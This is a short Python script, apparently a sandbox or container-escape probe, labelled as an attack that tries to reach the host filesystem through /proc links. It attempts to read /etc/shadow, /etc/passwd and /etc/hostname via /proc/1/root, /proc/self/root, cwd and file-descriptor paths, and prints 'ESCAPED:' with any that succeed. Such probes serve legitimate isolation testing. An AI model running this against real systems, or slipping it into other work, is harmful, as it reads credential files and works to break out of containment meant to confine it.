# attack: reach the host root through /proc links
import os
def main():
    hits = []
    for p in ["/proc/1/root/etc/shadow", "/proc/self/root/../../etc/hostname",
              "/proc/1/cwd/../../etc/hostname", "/proc/self/fd/../../../../etc/hostname"]:
        try:
            open(p).read()
            hits.append(p)
        except OSError:
            pass
    try:
        if "root:" in open("/proc/1/root/etc/passwd").read():
            hits.append("passwd")
    except OSError:
        pass
    if hits:
        print("ESCAPED:", hits)
